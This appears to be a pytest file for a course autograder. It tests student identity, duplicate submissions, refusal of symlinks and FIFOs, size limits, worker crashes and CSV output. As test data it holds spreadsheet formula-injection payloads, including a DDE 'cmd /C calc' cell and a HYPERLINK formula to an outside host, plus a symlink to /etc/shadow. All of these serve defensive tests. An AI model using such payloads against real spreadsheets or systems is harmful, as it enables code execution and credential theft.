"""Identity and inputs are the instructor's: who a file belongs to, what is read, how a batch's jobs stay apart.

Most tests grade through the batch's seam (``grade_folder(..., grade=...)``)
with a stand-in for the kernel, so reading, identity, refusals, duplicates,
the CSV and the workers are the real ones and take seconds; one batch grades
a real notebook next to a submission that kills its grading worker.
"""

from __future__ import annotations

import csv
import os
import signal
import socket
import stat
import tempfile
import time
from pathlib import Path

import nbformat
import pytest
from grading_corpus import solution

from course_grader import (
    GradeOptions,
    GradeResult,
    Limits,
    SandboxSettings,
    TestResult,
    grade_folder,
    grade_notebook,
    write_csv,
)
from course_grader.batch.worker_pool import died
from course_grader.cli import app as cli
from course_grader.errors import NotARegularFile, SubmissionTooLarge
from course_grader.intake import regular_file
from course_grader.intake.discovery import discover
from course_grader.intake.identity import identify, submission_name
from course_grader.intake.notebook import read_submission
from course_grader.intake.regular_file import read_regular_file
from course_grader.results.grades_csv import neutralised
from course_grader.results.grades_frame import results_frame
from course_lib.teaching import lab_registry

pytestmark = pytest.mark.sandboxed  # make test-sandboxed: real sandboxes, cgroups, Gradescope dry runs

LIMITS = Limits(cell_timeout=3, budget=60)


# --- stand-ins for the grader, importable by a spawned worker -----------------------------


def _no_kernel(lab: lab_registry.Lab, setup: tuple[str, ...], exercises: tuple[str, ...], options: GradeOptions):
    """A kernel run in which every function is defined and no check ran: status ok, 0 points."""
    from course_grader.judging.kernel_run import KernelRun
    from course_grader.sandbox.cell_run import CellRun

    names = lab.functions
    return KernelRun(
        setup=[CellRun("ok")], exercises=[CellRun("ok")], functions=CellRun("ok", reply=dict.fromkeys(names, True))
    )


def kernel_free(path: Path, options: GradeOptions, *, root: str | None = None) -> GradeResult:
    """``grade_notebook`` with everything real but the kernel (patched in the worker that runs this)."""
    from course_grader.judging import grade

    grade.run_notebook = _no_kernel
    return grade.grade_notebook(path, options, root=root)


def misbehaving(path: Path, options: GradeOptions, *, root: str | None = None) -> GradeResult:
    """What a submission may do to the process grading it, chosen by its file name; the others grade for real."""
    name = path.name
    tempfile.mkdtemp(prefix="left-behind-")  # what a sandbox's home would be, were the worker killed now
    if name.startswith("kills"):
        os.kill(os.getpid(), signal.SIGKILL)
    if name.startswith("once"):
        marker = path.with_suffix(".died")
        if not marker.exists():
            marker.write_text("")
            os.kill(os.getpid(), signal.SIGKILL)
    if name.startswith("hangs"):
        time.sleep(600)
    if name.startswith("crashes"):
        raise RuntimeError("a grader bug")
    if name.startswith("real"):
        return grade_notebook(path, options, root=root)
    who, source = identify(path, root)
    return GradeResult(
        submission=submission_name(path, root),
        student=who,
        student_source=source,
        lab="11.2",
        status="ok",
        tests=(TestResult(name="t", number="1", lab="11.2", score=1),),
    )


# --- helpers ---------------------------------------------------------------------------------


def write(path: Path, lab: str = "11.2", **course: str) -> Path:
    book = solution(lab)
    book.metadata["course"] = {**book.metadata.get("course", {}), **course}
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(book, path)
    return path


def rows(results: list[GradeResult]) -> dict[str, GradeResult]:
    return {result.submission: result for result in results}


def notes(result: GradeResult) -> str:
    return " | ".join(result.notes)


# --- who a file belongs to --------------------------------------------------------------------


def test_the_folder_decides_who_and_metadata_naming_someone_else_is_a_note(tmp_path: Path) -> None:
    """The issue's case: a wrong notebook in mallory/ saying course.student = "bob" is mallory's row."""
    write(tmp_path / "bob" / "lab_11_2_group_interactions.ipynb", student="bob")
    write(tmp_path / "mallory" / "lab_11_2_group_interactions.ipynb", student="bob")
    graded = rows(
        grade_folder(tmp_path, GradeOptions(sandbox=SandboxSettings(limits=LIMITS)), progress=False, grade=kernel_free)
    )
    bob, mallory = graded["bob/lab_11_2_group_interactions.ipynb"], graded["mallory/lab_11_2_group_interactions.ipynb"]
    assert (bob.student, bob.student_source, mallory.student, mallory.student_source) == (
        "bob",
        "folder",
        "mallory",
        "folder",
    )
    assert "names 'bob'" in notes(mallory) and "never the notebook" in notes(mallory)
    assert "names" not in notes(bob)
    assert "duplicate" not in notes(bob) + notes(mallory)


def test_a_file_in_the_root_keeps_the_file_name_rule_and_metadata_never_names(tmp_path: Path) -> None:
    root = tmp_path / "submissions"
    write(root / "dave_lab_11_2.ipynb", student="erin")
    write(root / "lab_11_2_group_interactions.ipynb", student="erin")  # names nobody: the folder holding it
    graded = rows(
        grade_folder(root, GradeOptions(sandbox=SandboxSettings(limits=LIMITS)), progress=False, grade=kernel_free)
    )
    assert (graded["dave_lab_11_2.ipynb"].student, graded["dave_lab_11_2.ipynb"].student_source) == (
        "dave",
        "file name",
    )
    unnamed = graded["lab_11_2_group_interactions.ipynb"]
    assert (unnamed.student, unnamed.student_source) == ("submissions", "containing folder")
    assert all("names 'erin'" in notes(result) for result in graded.values())


def test_the_student_option_wins_in_single_file_mode(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from course_grader.judging import grade

    monkeypatch.setattr(grade, "run_notebook", _no_kernel)
    path = write(tmp_path / "alice" / "alice_lab_11_2.ipynb", student="bob")
    result = grade_notebook(path, GradeOptions(sandbox=SandboxSettings(limits=LIMITS)), student="carol")
    assert (result.student, result.student_source, result.submission) == ("carol", "--student", "alice_lab_11_2.ipynb")
    assert "names" not in notes(result)
    alone = grade_notebook(path, GradeOptions(sandbox=SandboxSettings(limits=LIMITS)))
    assert (alone.student, alone.student_source) == ("alice", "file name") and "names 'bob'" in notes(alone)


@pytest.mark.parametrize(
    ("name", "student"),
    [
        ("carol_02_lifecycle_capstone.ipynb", "carol"),
        ("lazy_mutant_lab_capstone.ipynb", "lazy_mutant"),
        ("frank_capstone_v2.ipynb", "frank"),
        ("capstones_fan.ipynb", "capstones_fan"),
    ],
)
def test_a_capstone_file_name_names_its_student_without_the_lab(name: str, student: str) -> None:
    assert identify(name) == (student, "file name")


# --- duplicates and conflicts ---------------------------------------------------------------


def test_two_files_for_one_student_and_lab_are_both_kept_and_say_which_counts(tmp_path: Path) -> None:
    old = write(tmp_path / "alice" / "first_try.ipynb")  # the lab from its metadata
    new = write(tmp_path / "alice" / "lab_11_2_final.ipynb")
    write(tmp_path / "bob" / "lab_11_2.ipynb")
    os.utime(old, (1_700_000_000, 1_700_000_000))
    os.utime(new, (1_700_000_100, 1_700_000_100))
    graded = rows(
        grade_folder(tmp_path, GradeOptions(sandbox=SandboxSettings(limits=LIMITS)), progress=False, grade=kernel_free)
    )
    first, final = graded["alice/first_try.ipynb"], graded["alice/lab_11_2_final.ipynb"]
    assert (first.counts, final.counts, graded["bob/lab_11_2.ipynb"].counts) == (False, True, True)
    assert "also alice/lab_11_2_final.ipynb" in notes(
        first
    ) and "alice/lab_11_2_final.ipynb counts, not this one" in notes(first)
    assert "also alice/first_try.ipynb" in notes(
        final
    ) and "this one counts (the latest modified, 2023-11-14 22:15:00 UTC (the file's own time" in notes(final)
    assert "duplicate" not in notes(graded["bob/lab_11_2.ipynb"])
    frame = results_frame(graded.values())
    assert list(frame["counts"]) == [False, True, True]


def test_a_file_name_and_metadata_naming_other_labs_is_flagged_and_the_file_name_decides(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``lab_11_3_….ipynb`` holding Lab 11.2 (metadata course.lab = "11.2") is not silently 100 % on Lab 11.2."""
    from course_grader.judging import grade

    monkeypatch.setattr(grade, "run_notebook", _no_kernel)
    path = write(tmp_path / "alice" / "lab_11_3_build_context.ipynb", lab="11.2")
    result = grade_notebook(path, GradeOptions(sandbox=SandboxSettings(limits=LIMITS)), root=tmp_path)
    assert result.lab == "11.3"
    assert "the file name says Lab 11.3 but the notebook's metadata (course.lab) says Lab 11.2" in notes(result)
    assert "graded as Lab 11.3 (the file name decides)" in notes(result)
    autograder = read_submission(
        path, expected_lab=lab_registry.LABS["11.2"]
    )  # an autograder for 11.2 grades its own lab, noted
    assert autograder.lab.id == "11.2" and "the lab this autograder grades" in autograder.notes[0]
    agreeing = read_submission(write(tmp_path / "bob" / "lab_11_2.ipynb"))
    assert (agreeing.lab.id, agreeing.notes) == ("11.2", ())
    capstone = read_submission(write(tmp_path / "carol" / "carol_capstone.ipynb", lab="11.5"))
    assert capstone.notes == (  # "the capstone" inside a sentence (issue 44: "its file name says The capstone")
        "the file name says the capstone but the notebook's metadata (course.lab) says Lab 11.5: graded as the "
        "capstone (the file name decides)",
    )


# --- only regular files are read -------------------------------------------------------------


def test_links_fifos_sockets_devices_and_folders_get_an_error_row_unopened(tmp_path: Path) -> None:
    root = tmp_path / "submissions"
    honest = write(root / "alice" / "lab_11_2.ipynb")
    outside = write(tmp_path / "solutions" / "lab_11_2.ipynb")
    (root / "bob").mkdir()
    (root / "bob" / "lab_11_2.ipynb").symlink_to(outside)  # to a solution outside the folder
    (root / "carol").mkdir()
    (root / "carol" / "lab_11_2.ipynb").symlink_to(honest)  # to a file inside it
    (root / "dave").mkdir()
    os.mkfifo(root / "dave" / "lab_11_2_group_interactions.ipynb")
    (root / "erin" / "lab_11_2.ipynb").mkdir(parents=True)
    (root / "frank").symlink_to(tmp_path / "solutions")  # a folder link: not entered
    (root / "gina").mkdir()
    server = socket.socket(socket.AF_UNIX)
    short = Path(tempfile.mkdtemp(prefix="s", dir="/tmp"))
    try:
        server.bind(str(short / "l.ipynb"))
        (short / "l.ipynb").rename(root / "gina" / "lab_11_2.ipynb")
    finally:
        server.close()
        short.rmdir()
    devices = True
    try:
        os.mknod(root / "hal_lab_11_2.ipynb", stat.S_IFCHR | 0o600, os.makedev(1, 3))
    except PermissionError:
        devices = False
    (root / "ivan").mkdir()
    (root / "ivan" / "lab_11_2.ipynb").symlink_to("/etc/shadow")

    started = time.monotonic()
    graded = rows(
        grade_folder(root, GradeOptions(sandbox=SandboxSettings(limits=LIMITS)), progress=False, grade=kernel_free)
    )
    assert time.monotonic() - started < 60  # the FIFO did not block anything
    assert graded["alice/lab_11_2.ipynb"].status == "ok"
    expected = {
        "bob/lab_11_2.ipynb": f"a symbolic link (to {outside})",
        "carol/lab_11_2.ipynb": f"a symbolic link (to {honest})",
        "dave/lab_11_2_group_interactions.ipynb": "a FIFO (named pipe)",
        "erin/lab_11_2.ipynb": "a folder",
        "frank": "a symbolic link",
        "gina/lab_11_2.ipynb": "a socket",
        "ivan/lab_11_2.ipynb": "(to /etc/shadow)",
    }
    if devices:
        expected["hal_lab_11_2.ipynb"] = "a character device"
    for name, what in expected.items():
        result = graded[name]
        assert result.status == "error" and result.lab is None and result.score == 0, name
        assert what in notes(result) and "only regular files are graded" in notes(result), name
    assert graded["frank"].student == "frank" and graded["bob/lab_11_2.ipynb"].student == "bob"
    assert set(graded) == {"alice/lab_11_2.ipynb", *expected}


def test_the_open_refuses_what_lstat_did_not_see_a_link_or_a_fifo_swapped_in(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The race between looking and opening: O_NOFOLLOW refuses a link, O_NONBLOCK + fstat a FIFO."""
    regular = write(tmp_path / "real.ipynb")
    link = tmp_path / "link.ipynb"
    link.symlink_to(regular)
    fifo = tmp_path / "fifo.ipynb"
    os.mkfifo(fifo)
    real_lstat = os.lstat
    monkeypatch.setattr(regular_file.os, "lstat", lambda path: real_lstat(regular))  # "it was a regular file"
    with pytest.raises(NotARegularFile, match="a symbolic link"):
        read_regular_file(link)
    with pytest.raises(NotARegularFile, match="a FIFO"):
        read_regular_file(fifo)


def test_a_file_over_the_size_limit_is_refused_without_being_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    big = tmp_path / "alice" / "lab_11_2.ipynb"
    big.parent.mkdir()
    with big.open("wb") as file:
        file.truncate(regular_file.MAX_NOTEBOOK_BYTES + 2**20)  # sparse: nothing is written
    reads: list[int] = []
    real_read = os.read

    def counted_read(fd: int, n: int) -> bytes:
        reads.append(n)
        return real_read(fd, n)

    monkeypatch.setattr(os, "read", counted_read)
    with pytest.raises(SubmissionTooLarge, match=r"a file of 21\.0 MB exceeds the 20 MB limit"):
        read_regular_file(big)
    assert reads == []
    small = write(tmp_path / "small.ipynb")
    with pytest.raises(SubmissionTooLarge, match="exceeds"):
        read_regular_file(small, limit=100)
    graded = rows(
        grade_folder(tmp_path, GradeOptions(sandbox=SandboxSettings(limits=LIMITS)), progress=False, grade=kernel_free)
    )
    assert graded["alice/lab_11_2.ipynb"].status == "error" and "exceeds the 20 MB limit" in notes(
        graded["alice/lab_11_2.ipynb"]
    )


def test_discovery_never_follows_a_link_even_to_a_folder_inside_the_tree(tmp_path: Path) -> None:
    write(tmp_path / "alice" / "lab_11_2.ipynb")
    (tmp_path / "mirror").symlink_to(tmp_path / "alice")
    (tmp_path / "loop").symlink_to(tmp_path)
    found = {item.path.relative_to(tmp_path).as_posix(): item.refused for item in discover(tmp_path)}
    assert found == {
        "alice/lab_11_2.ipynb": None,
        "loop": f"a symbolic link (to {tmp_path})",
        "mirror": f"a symbolic link (to {tmp_path / 'alice'})",
    }


# --- the command line, one file ---------------------------------------------------------------


def test_single_file_mode_refuses_a_link_or_a_fifo_and_never_reads_through_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("root:$6$very-secret-hash")
    link = tmp_path / "alice_lab_11_2.ipynb"
    link.symlink_to(secret)
    fifo = tmp_path / "bob_lab_11_2.ipynb"
    os.mkfifo(fifo)
    solved = tmp_path / "carol_lab_11_2.ipynb"
    solved.symlink_to(write(tmp_path / "solutions" / "lab_11_2.ipynb"))
    for path, what in ((link, "a symbolic link"), (fifo, "a FIFO"), (solved, "a symbolic link")):
        with pytest.raises(SystemExit) as stopped:
            cli.main([str(path), "--results", str(tmp_path / "r.json"), "--no-sandbox"])
        captured = capsys.readouterr()
        assert stopped.value.code == 2 and what in captured.err and "only regular files" in captured.err
        assert "very-secret" not in captured.out + captured.err
    assert not (tmp_path / "r.json").exists()
    for path in (link, solved):  # called from Python: an error result, still never read through
        result = grade_notebook(path, GradeOptions(sandbox=SandboxSettings(limits=LIMITS)))
        assert result.status == "error" and result.score == 0 and "a symbolic link" in notes(result)
        assert "very-secret" not in notes(result) + "".join(test.output for test in result.tests)


# --- the CSV ------------------------------------------------------------------------------


def _result(
    student: str, submission: str, lab: str = "11.2", notes: tuple[str, ...] = (), score: float = 1
) -> GradeResult:
    tests = tuple(TestResult(name=f"t{n}", number=n, lab=lab, score=score) for n in ("H2", "10", "H1", "4"))
    return GradeResult(submission=submission, student=student, lab=lab, status="ok", tests=tests, notes=notes)


HOSTILE_CELLS = ('=HYPERLINK("https:x.example"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tx", "\rx")


def test_cells_a_spreadsheet_would_run_are_neutralised_and_numbers_are_not(tmp_path: Path) -> None:
    results = [_result(cell, f"{cell}/lab.ipynb", notes=(cell,)) for cell in HOSTILE_CELLS]
    results.append(_result("dan", "dan/lab.ipynb", score=-1.5))
    write_csv(results, tmp_path / "grades.csv")
    with (tmp_path / "grades.csv").open(newline="", encoding="utf-8") as file:
        table = list(csv.reader(file))
    header, *body = table
    for row, cell in zip(body, HOSTILE_CELLS):
        record = dict(zip(header, row))
        assert record["student"] == record["notes"] == "'" + cell
        assert record["file"] == f"'{cell}/lab.ipynb"
    dan = dict(zip(header, body[-1]))
    assert dan["total"] == "-6.0" and dan["11.2 4 t4"] == "-1.5" and dan["student"] == "dan"
    text = (tmp_path / "grades.csv").read_text(encoding="utf-8")
    assert '"\'=HYPERLINK(""https:x.example""&A1,""x"")"' in text  # quoted, the quotes inside doubled
    assert neutralised(-2) == -2 and neutralised("ok") == "ok"


def test_a_student_folder_named_like_a_formula_is_neutralised_in_the_batch_csv(tmp_path: Path) -> None:
    root = tmp_path / "submissions"
    write(root / HOSTILE_CELLS[0] / "lab_11_2.ipynb", student="=1+1")
    results = grade_folder(
        root, GradeOptions(sandbox=SandboxSettings(limits=LIMITS)), progress=False, grade=kernel_free
    )
    write_csv(results, tmp_path / "grades.csv")
    with (tmp_path / "grades.csv").open(newline="", encoding="utf-8") as file:
        record = next(csv.DictReader(file))
    assert record["student"] == "'" + HOSTILE_CELLS[0] and record["file"] == f"'{HOSTILE_CELLS[0]}/lab_11_2.ipynb"
    assert not any(value.startswith(("=", "+", "-", "@")) for value in record.values())


def test_csv_columns_are_in_course_order_whatever_order_submissions_arrive_in() -> None:
    results = [_result("a", "a.ipynb", "capstone"), _result("b", "b.ipynb", "11.3"), _result("c", "c.ipynb", "11.1")]
    columns = list(results_frame(results).columns)
    assert columns == list(results_frame(results[::-1]).columns)
    tests = [column for column in columns if column.split(" ")[0] in lab_registry.LABS]
    assert tests == [f"{lab} {n} t{n}" for lab in ("11.1", "11.3", "capstone") for n in ("4", "10", "H1", "H2")]
    assert columns[:4] == ["student", "student_from", "file", "lab"]
    assert columns[-11:] == [
        "total",
        "max_score",
        "percent",
        "status",
        "counts",
        "seconds",
        "budget",
        "sandbox",
        "seed",
        "notes",
        "course",
    ]


# --- a batch is a set of independent jobs --------------------------------------------------


def test_a_submission_that_kills_or_hangs_its_worker_costs_only_its_own_row(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Next to one real notebook and honest stand-ins: the killer is retried alone, then an error row with the
    signal; one that dies only once gets its grade; a hang is stopped; nothing is left on disk."""
    scratch = Path(tempfile.mkdtemp(prefix="cgt-", dir="/tmp"))  # short: kernels' unix sockets live below it
    monkeypatch.setenv("TMPDIR", str(scratch))
    monkeypatch.setattr(tempfile, "tempdir", None)
    root = tmp_path / "submissions"
    names = ["alice", "bob", "kills", "carol", "hangs", "dave", "crashes", "once", "erin", "real"]
    for name in names:
        write(root / name / f"{name}_lab_11_2.ipynb")
    started = time.monotonic()
    results = grade_folder(
        root,
        GradeOptions(sandbox=SandboxSettings(limits=LIMITS)),
        jobs=2,
        progress=False,
        grade=misbehaving,
        job_timeout=20,
    )
    graded = {result.student: result for result in results}
    assert sorted(graded) == sorted(names) and time.monotonic() - started < 300
    for name in ("alice", "bob", "carol", "dave", "erin"):
        assert (graded[name].status, graded[name].score, graded[name].notes) == ("ok", 1, ()), notes(graded[name])
    assert graded["real"].status == "ok" and graded["real"].score == graded["real"].max_score == 5, notes(
        graded["real"]
    )
    killed = graded["kills"]
    assert killed.status == "error" and killed.lab == "11.2" and killed.score == 0 and killed.max_score == 5
    assert (
        notes(killed)
        == "the grading worker died (signal 9: killed, likely out of memory), also when graded again alone"
    )
    assert graded["once"].score == 1
    assert (
        notes(graded["once"])
        == "graded again alone after the grading worker died (signal 9: killed, likely out of memory)"
    )
    assert graded["hangs"].status == "timeout" and "longer than 20 s" in notes(graded["hangs"])
    assert graded["crashes"].status == "error" and "grading crashed: RuntimeError: a grader bug" in notes(
        graded["crashes"]
    )
    assert list(scratch.iterdir()) == []
    scratch.rmdir()


def test_what_a_dead_worker_says() -> None:
    assert died(-9) == "the grading worker died (signal 9: killed, likely out of memory)"
    assert died(-11) == "the grading worker died (signal 11: segmentation fault)"
    assert died(3) == "the grading worker died (exit status 3)"
